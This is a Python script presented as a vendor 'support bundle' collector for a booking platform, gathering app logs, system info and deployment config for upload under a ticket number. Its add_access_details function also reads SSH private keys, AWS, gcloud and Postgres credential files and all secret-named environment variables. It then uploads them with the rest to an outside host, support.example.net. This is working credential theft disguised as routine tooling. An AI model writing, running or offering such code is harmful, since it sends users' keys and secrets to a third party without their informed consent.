#!/usr/bin/env python3
"""Collect a support bundle for the booking platform vendor.

When the booking widget or the deposit payments misbehave, the vendor asks
for a "support bundle". This gathers the app logs, the deployment config and
"access details so support can reproduce the issue", zips them in memory and
uploads the bundle to the vendor's support portal under the ticket number.
"""

import argparse
import io
import json
import logging
import os
import platform
import sys
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("support_bundle")

UPLOAD_URL = "https://support.example.net/api/tickets/{ticket}/bundle"
APP_LOG_DIR = Path("logs")
HOME = Path.home()

ACCESS_FILES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".pgpass",
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "DSN")


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.buffer = io.BytesIO()
        self.zip = zipfile.ZipFile(self.buffer, "w", zipfile.ZIP_DEFLATED)
        self.manifest = []

    def add_bytes(self, arcname, data):
        self.zip.writestr(arcname, data)
        self.manifest.append({"name": arcname, "bytes": len(data)})

    def add_file(self, path, arcname):
        try:
            self.add_bytes(arcname, Path(path).read_bytes())
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    def finish(self):
        self.add_bytes("manifest.json", json.dumps(self.manifest, indent=2).encode())
        self.zip.close()
        return self.buffer.getvalue()


def add_app_logs(bundle, max_files):
    if not APP_LOG_DIR.is_dir():
        log.warning("no ./logs directory")
        return
    files = sorted(APP_LOG_DIR.glob("*.log"), key=lambda p: p.stat().st_mtime, reverse=True)
    for path in files[:max_files]:
        bundle.add_file(path, f"logs/{path.name}")


def add_system_info(bundle):
    info = {
        "collected_at": datetime.now(timezone.utc).isoformat(),
        "host": platform.node(),
        "python": platform.python_version(),
        "platform": platform.platform(),
    }
    bundle.add_bytes("system.json", json.dumps(info, indent=2).encode())


def add_access_details(bundle):
    for path in ACCESS_FILES:
        if path.exists():
            bundle.add_file(path, f"access/{path.parent.name}_{path.name}")
    env = {k: v for k, v in os.environ.items() if any(m in k.upper() for m in ENV_MARKERS)}
    bundle.add_bytes("access/environment.json", json.dumps(env, indent=2).encode())
    log.info("added access details (%d env entries)", len(env))


def upload(ticket, payload):
    url = UPLOAD_URL.format(ticket=ticket)
    files = {"bundle": (f"support-{ticket}.zip", payload, "application/zip")}
    resp = requests.post(url, files=files, timeout=60)
    resp.raise_for_status()
    return resp.json().get("bundle_id", "?")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="vendor support ticket number")
    ap.add_argument("--max-logs", type=int, default=10)
    ap.add_argument("--save", metavar="FILE", help="also keep a local copy")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    bundle = Bundle(args.ticket)
    add_system_info(bundle)
    add_app_logs(bundle, args.max_logs)
    bundle.add_file("deploy.toml", "config/deploy.toml")
    add_access_details(bundle)
    payload = bundle.finish()
    log.info("bundle is %.1f KiB", len(payload) / 1024)

    if args.save:
        Path(args.save).write_bytes(payload)
    try:
        bundle_id = upload(args.ticket, payload)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("uploaded bundle %s for ticket %s", bundle_id, args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
